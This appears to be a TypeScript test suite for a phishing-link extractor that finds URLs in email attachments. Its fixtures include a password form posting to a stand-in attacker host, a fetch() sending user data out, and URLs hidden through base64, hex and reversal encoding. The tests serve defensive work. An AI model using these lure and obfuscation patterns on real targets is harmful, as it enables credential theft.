// The links a message carries, where a reader finds them: the body, attached PDFs (written by qpdf)
// and Office documents (OOXML hyperlinks, in the relationship parts; ZIPs made by Info-ZIP).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { messageLinks } from '../../../src/content/links.ts';
import { pdfDocument } from '../../helpers/pdf.ts';
import { zipArchive } from '../../helpers/zip.ts';

const attachment = (filename: string, mimeType: string, content: Buffer) => ({ filename, mimeType, size: content.length, content });

test("an attached PDF's links join the message's links, after the body's", async () => {
  const pdf = pdfDocument({ links: ['https://example.com.owa-login.test/auth'] });
  const view = { subject: 'Rechnung', text: 'see https://www.example.org/ for details', html: null, attachments: [{ filename: 'Rechnung.pdf', mimeType: 'application/pdf', size: pdf.length, content: pdf }] };
  assert.deepEqual(await messageLinks(view), [{ url: 'https://www.example.org/' }, { url: 'https://example.com.owa-login.test/auth', in: 'a PDF' }]);
});

test("an Office document's hyperlinks join them too; its own parts, local files and mail links do not", async () => {
  const rels = (...r: string[]) => Buffer.from(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${r.join('')}</Relationships>`);
  const rel = (id: number, type: string, target: string, external = true) =>
    `<Relationship Id="rId${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
  const docx = zipArchive([
    ['[Content_Types].xml', '<Types/>'], ['word/document.xml', '<w:document/>'],
    ['word/_rels/document.xml.rels', rels(rel(1, 'styles', 'styles.xml', false), rel(2, 'hyperlink', 'https://sharepoint-docs.test/view?id=7&amp;u=anna'), rel(3, 'hyperlink', 'mailto:anna@example.com'), rel(4, 'hyperlink', 'file:///C:/Users/anna/a.pdf'))],
  ]);
  const xlsx = zipArchive([['xl/workbook.xml', '<workbook/>'], ['xl/worksheets/_rels/sheet1.xml.rels', rels(rel(1, 'hyperlink', 'http://203.0.113.9/pay'))]]);
  const view = { subject: 'Angebot', text: 'Anbei.', html: null, attachments: [
    attachment('Angebot.docx', 'application/octet-stream', docx),
    attachment('Preise', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', xlsx),
    attachment('archive.zip', 'application/zip', xlsx), // a ZIP is not read as a document
  ] };
  assert.deepEqual(await messageLinks(view), [
    { url: 'https://sharepoint-docs.test/view?id=7&u=anna', in: 'an Office document' }, { url: 'http://203.0.113.9/pay', in: 'an Office document' },
  ]);
  assert.deepEqual(await messageLinks(view, 1), [{ url: 'https://sharepoint-docs.test/view?id=7&u=anna', in: 'an Office document' }], 'at most max');
  const broken = { subject: 'x', text: '', html: null, attachments: [attachment('kaputt.docx', 'application/octet-stream', docx.subarray(0, 100))] };
  assert.deepEqual(await messageLinks(broken), []);
});

test("an attached web page's links, form targets and the addresses in its scripts join them too", async () => {
  const page = Buffer.from(`<!DOCTYPE html><html><head><script src="https://code.jquery.test/jquery.min.js"></script></head><body>
<form action="https://collect.evil.test/post.php" method="post"><input type="password" name="p"></form>
<script>fetch('https://api.evil2.test/log?u=' + user); var next = "https://www.example.com/owa";</script>
<a href="mailto:it@example.com">IT</a></body></html>`);
  const view = { subject: 'Remittance', text: 'See the attached remittance.', html: null, attachments: [attachment('Remittance.html', 'application/octet-stream', page)] };
  assert.deepEqual((await messageLinks(view)).map((l) => `${l.url} (${l.in})`), [
    'https://collect.evil.test/post.php (an attached web page)', 'https://code.jquery.test/jquery.min.js (an attached web page)',
    "https://api.evil2.test/log?u= (an attached web page)", 'https://www.example.com/owa (an attached web page)',
  ]);
});

test("an attached web page's hidden addresses join them, decoded: base64, escapes, character references, reversed", async () => {
  const b64 = Buffer.from('https://b64.evil.test/next?u=carol').toString('base64');
  const page = Buffer.from(`<html><script>location.href = atob("${b64}");
fetch("\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2fhex.evil.test/p", {method: "POST"}); var u = unescape('%68%74%74%70%73%3A%2F%2Fpct.evil.test%2Fx');
var r = "tset.live.desrever//:sptth".split("").reverse().join("");</script><a href="&#104;&#116;&#116;&#112;&#115;&#58;//ref.evil.test/">Open</a>
<img src="data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>').toString('base64')}"></html>`);
  const view = { subject: 'Voicemail', text: '', html: null, attachments: [attachment('VM.html', 'text/html', page)] };
  const urls = (await messageLinks(view)).map((l) => l.url);
  for (const hidden of ['https://b64.evil.test/next?u=carol', 'https://hex.evil.test/p', 'https://pct.evil.test/x', 'https://reversed.evil.test', 'https://ref.evil.test/'])
    assert.ok(urls.includes(hidden), `${hidden} in ${urls.join(' ')}`);
  assert.ok(!urls.some((u) => u.includes('w3.org')), 'a picture\'s xmlns in a data: URI is no link');
});

test("a calendar invitation's links join them: description, location, URL, the HTML description; folded lines unfolded", async () => {
  const ics = Buffer.from([
    'BEGIN:VCALENDAR', 'METHOD:REQUEST', 'PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN', 'BEGIN:VEVENT',
    'SUMMARY:Gehaltsanpassung 2027 – bitte bestätigen',
    'DESCRIPTION:Bitte melden Sie sich an: https://hr-portal.evil.te', ' st/login?u=carol\, danach bestätigen.\nDanke',
    'LOCATION;LANGUAGE=de-DE:Teams: https://teams-join.evil.test/meet/42',
    'URL;VALUE=URI:https://cal.evil.test/e/42',
    'X-ALT-DESC;FMTTYPE=text/html:<html><body><a href="https://button.evil.test/r?x=1&amp;y=2">Jetzt prüfen</a></body></html>',
    'ORGANIZER;CN="HR, Personal":mailto:hr@example.com',
    'END:VEVENT', 'END:VCALENDAR', '',
  ].join('\r\n'));
  const view = { subject: 'Einladung', text: 'Sie wurden eingeladen.', html: null, attachments: [attachment(null as unknown as string, 'text/calendar', ics)] };
  assert.deepEqual((await messageLinks(view)).map((l) => `${l.url} (${l.in})`), [
    'https://hr-portal.evil.test/login?u=carol (a calendar invitation)', 'https://teams-join.evil.test/meet/42 (a calendar invitation)',
    'https://cal.evil.test/e/42 (a calendar invitation)', 'https://button.evil.test/r?x=1&y=2 (a calendar invitation)',
  ]);
  const byName = { subject: 'x', text: '', html: null, attachments: [attachment('invite.ics', 'application/octet-stream', ics)] };
  assert.equal((await messageLinks(byName)).length, 4, 'an .ics file by its name');
});

test("a forwarded message attached whole: its HTML's and its text's links, one level", async () => {
  const inner = (body: string) => Buffer.from(`From: OneDrive <no-reply@onedrive.test>\r\nTo: p@partner.test\r\nSubject: Remittance\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${body}\r\n`);
  const notice = inner('<p>A file was shared with you.</p><a href="https://remit22871docs.z6.web.core.windows.net/index.html#carol@example.com">Open</a>');
  const view = { subject: 'Fwd', text: 'Please see the attached message.', html: null, attachments: [attachment('Εκκρεμής πληρωμή.eml', 'message/rfc822', notice)] };
  assert.deepEqual(await messageLinks(view), [{ url: 'https://remit22871docs.z6.web.core.windows.net/index.html#carol@example.com', in: 'an attached message' }]);
  // an .eml by its name, the URL written in its text; a message forwarded inside it is not opened
  const plain = Buffer.from('From: a@b.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee https://files.evil.test/x\r\n--b\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=deeper.eml\r\n\r\nSubject: y\r\n\r\nhttps://deeper.evil.test/\r\n--b--\r\n');
  assert.deepEqual((await messageLinks({ subject: 'x', text: '', html: null, attachments: [attachment('fwd.eml', 'application/octet-stream', plain)] })).map((l) => l.url), ['https://files.evil.test/x']);
});

test("an internet shortcut's address joins them; other files give none", async () => {
  const url = Buffer.from('[InternetShortcut]\r\nURL=https://files.evil.test/Rechnung.html\r\nIconIndex=13\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n');
  const view = { subject: 'Rechnung', text: 'Anbei.', html: null, attachments: [attachment('Rechnung.url', 'application/octet-stream', url), attachment('notes.txt', 'text/plain', Buffer.from('URL=https://not.a.shortcut.test/'))] };
  assert.deepEqual(await messageLinks(view), [{ url: 'https://files.evil.test/Rechnung.html', in: 'an internet shortcut' }]);
  const local = Buffer.from('[InternetShortcut]\nURL=file://203.0.113.7/share/invoice.exe\n');
  assert.deepEqual(await messageLinks({ subject: 'x', text: '', html: null, attachments: [attachment('a.url', 'application/octet-stream', local)] }), []);
});
